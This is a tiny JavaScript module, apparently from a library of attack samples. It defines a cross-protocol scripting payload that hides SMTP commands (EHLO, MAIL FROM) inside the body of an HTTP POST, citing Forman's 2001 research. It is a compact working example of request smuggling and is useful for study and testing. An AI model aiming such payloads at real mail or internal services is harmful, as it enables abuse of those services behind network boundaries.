import { talk } from '../attack.mjs';

/** Talks HTTP, as a browser can be made to. Source: Forman, cross-protocol scripting, 2001. */
export default talk({
  sent: 0,
  steps: () => [
    'POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 60\r\n\r\nEHLO a\r\nMAIL FROM:<a@example.org>\r\n',
    'QUIT\r\n',
  ],
});
